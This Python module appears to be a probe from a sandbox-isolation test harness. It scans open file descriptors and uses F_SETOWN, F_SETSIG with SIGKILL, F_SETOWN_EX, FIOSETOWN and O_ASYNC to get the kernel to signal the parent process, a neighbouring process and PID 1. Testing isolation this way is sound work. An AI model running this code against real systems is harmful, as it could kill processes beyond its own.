"""intent: has the kernel send signals for it: F_SETOWN and F_SETSIG on its socket and its output, FIOASYNC, timers, dnotify, leases
criterion: neighbour
proven: naive
"""

import fcntl
import os
import signal
import struct

def on_start():
    for number in range(64):
        try:
            os.fstat(number)
        except OSError:
            continue
        for process in (os.getppid(), PLACES["process"], 1):
            for command, value in ((8, process), (10, signal.SIGKILL), (15, struct.pack("ii", 1, process))):
                try:
                    fcntl.fcntl(number, command, value)
                    won(f"fcntl {command} to {process}")
                except OSError:
                    pass
            try:
                fcntl.ioctl(number, 0x8901, struct.pack("i", process))
                won("FIOSETOWN")
            except OSError:
                pass
        try:
            fcntl.fcntl(number, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
        except OSError:
            pass

def on_call(name, arguments):
    return None
